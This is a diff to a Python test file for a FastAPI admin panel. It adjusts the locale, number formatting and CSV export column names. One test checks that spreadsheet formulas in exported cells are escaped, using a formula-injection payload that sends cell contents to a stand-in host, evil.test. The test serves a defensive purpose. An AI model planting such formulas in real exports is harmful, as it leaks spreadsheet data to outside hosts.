@@ -40,6 +40,12 @@ Headers = Callable[..., dict[str, str]]
 WRONG = "not the password"
 
 
+@pytest.fixture
+def settings(settings: Settings) -> Settings:
+    """These tests read the panel's English messages (Russian is the default)."""
+    return settings.model_copy(update={"admin_locale": "en"})
+
+
 def browser_at(app: FastAPI, address: str = "203.0.113.7") -> httpx.AsyncClient:
     """A browser on the machine at ``address``."""
     transport = httpx.ASGITransport(app=app, client=(address, 50000))
@@ -406,7 +412,7 @@ async def test_a_login_or_delete_from_another_site_is_refused(
     )
     assert refused.status_code == 403
     listing = await marta.get("/admin/duration-discount/list")
-    assert "5 %" in listing.text
+    assert "5\u00a0%" in listing.text
 
 
 # --- headers ------------------------------------------------------------------------------
@@ -477,9 +483,9 @@ async def test_exported_cells_that_a_spreadsheet_would_run_are_escaped(
     assert created.status_code == 201, created.text
 
     [row] = exported(await marta.get("/admin/payment/export/csv"))
-    assert row["provider_payment_id"] == '\'=HYPERLINK("http://evil.test/?"&A1,"details")'
-    assert row["refunded_at"] == ""  # no value, no "None"
-    assert row["amount"] == "49900"
+    assert row["Provider's payment id"] == '\'=HYPERLINK("http://evil.test/?"&A1,"details")'
+    assert row["Refunded at"] == ""  # no value, no "None"
+    assert row["Amount"] == "499.00"
     [promo] = exported(await marta.get("/admin/promo-code/export/csv"))
     assert promo["created_by"] == f"'{subject}"
     assert promo["code"] == "SPRING25"
